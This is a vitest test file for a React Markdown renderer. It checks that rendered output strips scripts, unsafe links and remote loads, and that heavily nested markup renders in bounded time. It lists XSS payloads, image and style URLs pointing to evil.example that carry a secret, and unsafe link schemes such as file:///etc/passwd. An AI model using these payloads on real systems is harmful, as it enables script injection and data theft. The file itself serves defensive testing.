import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { threadTime } from '../../../electron/host/thread-time.fixture.ts';
import { startTexts } from '../../i18n/index.ts';
import { TooltipProvider } from '../../ui/tooltip.tsx';
import { Markdown } from './markdown.tsx';

beforeAll(async () => {
  await startTexts('en');
});

const drawn = (text: string, growing = false) =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Markdown text={text} growing={growing} />
    </TooltipProvider>,
  );

/** Elements and attributes that make a browser run or load something. */
const ACTIVE =
  /^<(?:script|iframe|object|embed|form|style|link|meta|base|svg|math|video|audio|img)\b|\son\w+=|\ssrc\w*=|javascript:|data:/i;

/** The rendered tags, without the app's own icons and without text. */
const elements = (html: string) => html.replace(/<svg [^>]*class="lucide.*?<\/svg>/gs, '').match(/<[^>]*>/g) ?? [];

const HOSTILE = [
  '<script>alert(1)</script>',
  'text <img src=x onerror=alert(1)> text',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<div\n onclick="alert(1)">\n\n**x**\n\n</div>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<base href="https://evil.example/">',
  '![x](https://evil.example/x.png?secret=1)',
  '![x][r]\n\n[r]: https://evil.example/x.png?secret=1',
  '![x]\n\n[x]: //evil.example/x.png',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '- <script>alert(1)</script>',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '$$<img src=x onerror=alert(1)>$$',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
];

describe('an answer', () => {
  it.each(HOSTILE)('%j is rendered without anything that runs or loads (V11, V12)', (text) => {
    for (const growing of [false, true]) {
      expect(elements(drawn(text, growing)).filter((element) => ACTIVE.test(element))).toEqual([]);
    }
  });

  it('with raw HTML shows the HTML as text', () => {
    expect(drawn('a <b>bold</b> word')).toContain('a &lt;b&gt;bold&lt;/b&gt; word');
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](smb://server/share)',
    '[x](ms-msdt:/id)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '[x](app://loopwright/index.html)',
    '[x](#top)',
  ])('does not become a link for the unsafe text %j (V10)', (text) => {
    expect(drawn(text)).not.toContain('<a ');
  });

  it('has links only to web pages and mail addresses; they open outside the app and without a referrer', () => {
    for (const address of ['https://example.com/a', 'http://example.com/a', 'mailto:a@example.com']) {
      expect(drawn(`[x](${address})`)).toMatch(
        new RegExp(`<a href="${address}" title="${address}" target="_blank" rel="noopener noreferrer"`),
      );
    }
  });

  it('shows the origin of a remote image and does not load the image', () => {
    const html = drawn('![a chart](https://pictures.example/x.png?secret=1)');
    expect(html).toContain('pictures.example');
    expect(html).not.toContain('<img');
  });

  it('shows an inline image if its type cannot contain scripts', () => {
    expect(drawn('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain(
      '<img src="data:image/png;base64,iVBORw0KGgo="',
    );
  });

  it('shows hidden and direction-changing characters in code as visible codes', () => {
    expect(drawn('`a\u202eb\u200bc`')).toContain('a\\u{202e}b\\u{200b}c');
    expect(drawn('```\nif (x\u2066) {}\n```')).toContain('\\u{2066}');
  });

  it.each([
    ['quotes', '>'.repeat(5_000)],
    ['lists', Array.from({ length: 500 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
    ['emphasis', '*a '.repeat(4_000)],
    ['brackets', '['.repeat(8_000)],
    ['links', '[a]('.repeat(2_000)],
    ['backticks', '`a'.repeat(4_000)],
    ['pipes', `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n`],
    ['dollars', '$a '.repeat(4_000)],
  ])('is rendered in time, however deeply its markup is nested or repeated: %s (F28)', (_, text) => {
    const used = threadTime();
    drawn(text.slice(0, 12_000), true);
    expect(used()).toBeLessThan(3_000);
  });
});
